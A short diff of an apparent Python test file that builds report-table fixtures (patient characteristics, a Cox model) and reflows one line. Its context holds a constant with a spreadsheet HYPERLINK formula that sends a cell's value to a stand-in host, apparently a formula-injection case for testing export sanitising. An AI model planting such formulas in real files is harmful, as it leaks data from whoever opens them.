@@ -14,7 +14,8 @@ LEAK = '=HYPERLINK("http://x/?leak="&B3, "click")'
 def _tables() -> list[ReportTable]:
     data = pd.DataFrame({"variable": ["age", "ecog"], "p": [0.000123, 0.5], "smd": [0.474, np.nan]})
     display = pd.DataFrame({"Variable": ["Age (per year)", LEAK], "p": ["<0.001", "0.50"], "SMD": ["0.474", ""]})
-    t1 = ReportTable("table1_before", "Patient characteristics", data, display, note="SMD: standardised mean difference.")
+    t1 = ReportTable("table1_before", "Patient characteristics", data, display,
+                     note="SMD: standardised mean difference.")
     cox = ReportTable("cox_os", "Cox model", pd.DataFrame({"hr": [1.55]}, index=pd.Index(["exposure"], name="term")))
     return [t1, cox]
 
